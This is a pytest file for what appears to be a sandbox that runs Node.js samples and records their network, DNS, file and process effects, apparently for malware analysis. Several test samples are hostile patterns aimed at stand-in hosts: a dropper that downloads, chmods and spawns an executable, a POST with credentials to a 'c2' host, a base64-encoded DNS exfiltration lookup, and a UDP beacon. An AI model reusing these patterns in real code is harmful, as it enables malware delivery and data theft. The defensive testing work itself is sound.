"""http, net, dns and their like: what a sample asks of the network, and what it is told."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from .node_runs import Node, playing_node


@pytest.fixture(scope="module")
def node(outlives_tests: None) -> Iterator[Node]:
    with playing_node() as playing:
        yield playing


def test_a_download_arrives_as_a_stream(node: Node) -> None:
    source = """
      require("https").get("https://x.example/p.js", (res) => {
        let body = "";
        res.on("data", (chunk) => (body += chunk)).on("end", () => say(res.statusCode, body));
      });
    """
    assert node.said(source, answers={"http_body": "payload()"}) == '[[200,"payload()"]]'


def test_what_is_sent_is_told_whole(node: Node) -> None:
    source = """
      const req = require("http").request({ host: "c2.example", port: 8080, path: "/in?x=1",
        method: "post",
        headers: { "X-Key": "k" }, auth: "u:p" });
      req.setHeader("Cookie", ["a=1", "b=2"]); req.write("first "); req.end("second");
    """
    result = node.run(source)
    (effect,) = result.side_effects
    details = dict(effect.details)
    assert (effect.operation, effect.target) == ("POST", "http://c2.example:8080/in?x=1")
    assert details["header: X-Key"] == "k"
    assert details["header: Authorization"] == "Basic dTpw"
    assert result.trace is not None
    assert bytes(result.trace.artifacts[0].content) == b"first second"


def test_a_dropper_saves_what_it_downloads_and_starts_it(node: Node) -> None:
    source = """
      const fs = require("fs");
      require("http").get("http://x.example/a.exe", (res) => {
        const file = fs.createWriteStream("/tmp/a.exe");
        res.pipe(file);
        file.on("finish", () => { fs.chmodSync("/tmp/a.exe", 0o755);
          require("child_process").spawn("/tmp/a.exe"); });
      });
    """
    happened = [(kind, operation) for kind, operation, _ in node.effects(source)]
    assert happened[:4] == [
        ("network", "GET"),
        ("file", "write"),
        ("file", "chmod"),
        ("process", "run"),
    ]


def test_without_a_network_a_request_fails_with_an_event(node: Node) -> None:
    source = """
      require("http").get("http://x.example/").on("error", (e) => say(e.code, e.syscall, e.port));
      require("net").connect(80, "x.example").on("error", (e) => say(e.message));
      require("dns").lookup("x.example", (e) => say(e.code, e.hostname));
    """
    said = node.said(source, answers={"http": "error"})
    assert said == (
        '[["ENOTFOUND","x.example"],["ECONNREFUSED","connect",80],'
        '"connect ECONNREFUSED x.example:80"]'
    )


@pytest.mark.parametrize(
    ("call", "code"),
    [
        ("require('http').get('https://x.example/')", "ERR_INVALID_PROTOCOL"),
        ("require('http').get('no address')", "ERR_INVALID_URL"),
        ("require('http').request(5)", "ERR_INVALID_ARG_TYPE"),
        ("require('net').connect({})", "ERR_INVALID_ARG_TYPE"),
        ("require('dns').lookup('x')", "ERR_INVALID_ARG_TYPE"),
    ],
)
def test_bad_arguments_are_refused_with_nodes_code(node: Node, call: str, code: str) -> None:
    assert node.thrown(call)[1] == code


def test_names_are_looked_up_and_told(node: Node) -> None:
    source = """
      const dns = require("dns");
      dns.lookup("a.example", (e, address, family) => say(family));
      dns.resolve4("b.example", (e, all) => say(all.length));
      dns.promises.resolveTxt("c2VjcmV0.c.example").then((all) => say(Array.isArray(all[0])));
    """
    result = node.run("const said = [], say = (x) => said.push(x);" + source)
    assert [effect.target for effect in result.side_effects] == [
        "a.example",
        "b.example",
        "c2vjcmv0.c.example",
    ]


def test_a_server_is_told_of_and_says_that_it_listens(node: Node) -> None:
    source = 'require("http").createServer(() => 1).listen(8080, "0.0.0.0", () => say("up"));'
    assert node.said(source) == '["up"]'
    assert ("network", "listen", "tcp://0.0.0.0:8080") in node.effects(
        "require('net').createServer().listen(8080, '0.0.0.0')"
    )


def test_datagrams_and_encrypted_connections_are_told_of(node: Node) -> None:
    effects = node.effects("""
      require("dgram").createSocket("udp4").send("beacon", 53, "198.51.100.7");
      require("tls").connect(443, "x.example", function () { this.write("hello"); });
    """)
    assert ("network", "send", "udp://198.51.100.7:53") in effects
    assert ("network", "send", "tls://x.example:443") in effects


def test_a_second_version_request_is_answered_as_a_stream(node: Node) -> None:
    source = """
      const request = require("http2").connect("https://x.example").request({ ":path": "/t.txt" });
      request.on("response", (headers) => say(headers[":status"]));
      request.setEncoding("utf8"); request.on("data", (text) => say(text)); request.end();
    """
    assert node.said(source, answers={"http_body": "two"}) == '[200,"two"]'


def test_addresses_are_told_by_their_version(node: Node) -> None:
    source = "['1.2.3.4', '256.1.1.1', '::1', 'x', '1.2.3.4.'].map(require('net').isIP)"
    assert node.value(source) == [4, 0, 6, 0, 0]
